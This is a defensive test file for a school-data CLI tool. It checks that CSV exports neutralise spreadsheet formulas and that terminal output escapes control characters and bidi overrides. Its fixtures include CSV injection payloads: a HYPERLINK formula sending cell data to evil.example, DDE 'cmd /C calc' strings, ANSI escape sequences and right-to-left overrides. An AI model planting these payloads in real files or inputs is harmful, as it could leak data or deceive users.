// What tenants (and operators) write cannot attack the person who opens a
// bundle, a CSV or a terminal (issue 16). Hostile data is planted as the
// superuser, as a site admin or a compromised platform could; then the built
// binary is run and its bytes checked: spreadsheet formulas are neutralised
// in every CSV meant for people, and control characters and bidi overrides
// never reach a terminal raw.
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { runCli } from '../support/cli.js';
import { createTestDatabase, type TestDatabase } from '../support/db.js';
import { OAK, OAK_PRIMARY, demoId } from '../support/demo-ids.js';
import { readZip } from '../support/zip.js';

let db: TestDatabase;
let opUrl: string;
let work: string;
const mediaDir = inject('mediaDir');
const cli = (args: string[]) => runCli(['--database-url', opUrl, ...args]);

const CHILD = demoId('child:oak-primary:1');
const TEACHER = demoId('staff:oak-primary:teacher:1');

// Cells a spreadsheet would run as formulas (or, with a leading tab or CR, after trimming).
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Open your report")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];
const CHILD_NAME = '@SUM(1+1)\x1b[8m hidden';
// A title change, a line erase, a carriage return and concealed text; then a right-to-left override.
const HOSTILE_EMAIL = '\x1b]0;pwned\x07\x1b[2K\rteacher@oak.example\x1b[8m';
const HOSTILE_NAME = '\u202eevil\u202c Teacher\x9b31m';
const HOSTILE_REASON = 'cover\x1b[2K\rnothing to see';
const HOSTILE_TICKET = 'SUP-1\u2066\u202e7731';

// Anything a terminal acts on, except the newlines between output lines.
const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
// A cell a spreadsheet would run: starts with = + - @ tab or CR (a plain negative number is data).
const formulaCell = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

beforeAll(async () => {
  db = await createTestDatabase();
  opUrl = db.url('trustctl_test_op');
  work = await mkdtemp(join(tmpdir(), 'trustctl-hostile-'));
  const q = (text: string, values: unknown[]) => db.admin.query(text, values);
  for (const body of FORMULAS) {
    await q(`insert into notes (org_id, site_id, child_id, author_id, kind, body) values ($1, $2, $3, $4, 'general', $5)`, [OAK, OAK_PRIMARY, CHILD, TEACHER, body]);
    await q(`insert into wellbeing_checkins (org_id, site_id, child_id, mood, comment, checked_in_at) values ($1, $2, $3, 3, $4, now())`, [OAK, OAK_PRIMARY, CHILD, body]);
  }
  await q(`update children set full_name = $3 where org_id = $1 and id = $2`, [OAK, CHILD, CHILD_NAME]);
  await q(`update users set email = $3, full_name = $4 where org_id = $1 and id = $2`, [OAK, TEACHER, HOSTILE_EMAIL, HOSTILE_NAME]);
  await q(
    `insert into role_assignments (org_id, site_id, user_org_id, user_id, role, expires_at, ticket, reason)
     values ($1, $2, $1, $3, 'office', now() + interval '1 hour', $4, $5)`,
    [OAK, OAK_PRIMARY, TEACHER, HOSTILE_TICKET, HOSTILE_REASON],
  );
  // An audit event whose operator-written fields are formulas and controls.
  await q(
    `insert into audit_events (org_id, actor_type, action, target_id, reason, ticket) values ($1, 'system', 'test.hostile', $2, $3, $4)`,
    [OAK, FORMULAS[0], FORMULAS[1], HOSTILE_REASON],
  );
  const open = await cli(['dsar', 'request', 'open', '--org', 'oak-trust', '--subject', CHILD, '--request', 'H-1', '--received', new Date().toISOString().slice(0, 10), '--json']);
  expect(open.code, open.stderr).toBe(0);
  await q(
    `update dsar_requests set extended_due_on = due_on + 7, extension_reason = $2 where org_id = $1 and reference = 'H-1'`,
    [OAK, HOSTILE_REASON],
  );
});
afterAll(async () => {
  await db?.drop();
  if (work) await rm(work, { recursive: true, force: true });
});

describe('spreadsheet formulas in CSVs for people', () => {
  let bundle: { path: string; files: Map<string, Buffer>; human: string };
  beforeAll(async () => {
    const out = await mkdtemp(join(work, 'bundle-'));
    const r = await cli(['dsar', 'export', '--org', 'oak-trust', '--subject', CHILD, '--request', 'H-1', '--out', out, '--media-dir', mediaDir]);
    expect(r.code, r.stderr).toBe(0);
    const path = join(out, 'H-1.zip');
    bundle = { path, files: await readZip(path), human: r.stdout };
  });

  it('no cell of the bundle’s CSVs starts with = + - @ tab or CR; each is kept after a quote', () => {
    const csvs = [...bundle.files.keys()].filter((p) => p.endsWith('.csv'));
    expect(csvs).toEqual(expect.arrayContaining(['data/notes.csv', 'data/wellbeing_checkins.csv', 'data/children.csv']));
    for (const p of csvs) {
      const cells = (parse(bundle.files.get(p)!) as string[][]).flat();
      expect(cells.filter(formulaCell), p).toEqual([]);
    }
    const notes = (parse(bundle.files.get('data/notes.csv')!, { columns: true }) as Array<{ body: string }>).map((n) => n.body);
    const comments = (parse(bundle.files.get('data/wellbeing_checkins.csv')!, { columns: true }) as Array<{ comment: string }>).map((n) => n.comment);
    for (const f of FORMULAS) {
      expect(notes).toContain(`'${f}`);
      expect(comments).toContain(`'${f}`);
    }
    const child = parse(bundle.files.get('data/children.csv')!, { columns: true }) as Array<{ full_name: string }>;
    expect(child[0]!.full_name).toBe(`'${CHILD_NAME}`);
  });

  it('the bundle’s JSON keeps the exact text, and dsar verify passes over the escaped bytes', async () => {
    const notes = JSON.parse(bundle.files.get('data/notes.json')!.toString('utf8')) as Array<{ body: string }>;
    for (const f of FORMULAS) expect(notes.map((n) => n.body)).toContain(f);
    const v = await cli(['dsar', 'verify', bundle.path]);
    expect(v.code, v.stdout + v.stderr).toBe(0);
    expect(v.stdout).toMatch(/^OK: /);
    expect(bundle.files.get('README.txt')!.toString('utf8')).toMatch(/formula/i);
  });

  it('the dsar export summary shows the child’s name with its escape visible', () => {
    expect(bundle.human).not.toMatch(RAW_CONTROL);
    expect(bundle.human).toContain('@SUM(1+1)\\x1b[8m hidden');
  });

  it('the audit export CSV stays exact (re-importable); --for-people escapes formulas, and each manifest says which', async () => {
    const exact = join(work, 'trail.csv');
    const safe = join(work, 'trail-people.csv');
    const a = await cli(['audit', 'export', '--org', 'oak-trust', '--action', 'test.hostile', '--out', exact, '--json']);
    expect(a.code, a.stderr).toBe(0);
    const b = await cli(['audit', 'export', '--org', 'oak-trust', '--action', 'test.hostile', '--out', safe, '--for-people', '--json']);
    expect(b.code, b.stderr).toBe(0);
    const rowOf = async (file: string) => (parse(await readFile(file), { columns: true }) as Array<Record<string, string>>)[0]!;
    const raw = await rowOf(exact);
    expect(raw).toMatchObject({ target_id: FORMULAS[0], reason: FORMULAS[1], ticket: HOSTILE_REASON });
    const people = await rowOf(safe);
    expect(people).toMatchObject({ target_id: `'${FORMULAS[0]}`, reason: `'${FORMULAS[1]}` });
    expect(Object.values(people).filter(formulaCell)).toEqual([]);
    const manifest = async (file: string) => JSON.parse(await readFile(`${file}.manifest.json`, 'utf8'));
    expect((await manifest(exact)).file.cells).toBe('exact');
    expect((await manifest(safe)).file.cells).toBe('formulas_escaped');
    const jsonl = await cli(['audit', 'export', '--org', 'oak-trust', '--out', join(work, 'x.jsonl'), '--format', 'jsonl', '--for-people']);
    expect(jsonl.code).toBe(2);
  });
});

describe('control characters and bidi overrides in terminal output', () => {
  it('access who shows the teacher’s email, name and ticket with escapes visible', async () => {
    const r = await cli(['access', 'who', '--org', 'oak-trust', '--site', 'oak-primary']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('\\x1b]0;pwned\\x07\\x1b[2K\\x0dteacher@oak.example\\x1b[8m');
    expect(r.stdout).toContain('SUP-1\\u2066\\u202e7731');
  });

  it('roles list shows a grant’s email, reason and ticket with escapes visible', async () => {
    const r = await cli(['roles', 'list', '--org', 'oak-trust', '--user', TEACHER]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('cover\\x1b[2K\\x0dnothing to see');
  });

  it('dsar list shows an extension reason with escapes visible', async () => {
    const r = await cli(['dsar', 'list', '--org', 'oak-trust']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('cover\\x1b[2K\\x0dnothing to see');
  });

  it('--json output stays exact JSON', async () => {
    const r = await cli(['access', 'who', '--org', 'oak-trust', '--site', 'oak-primary', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    const who = JSON.parse(r.stdout) as { users: Array<{ user: { email: string | null } }> };
    expect(who.users.map((u) => u.user.email)).toContain(HOSTILE_EMAIL);
  });
});
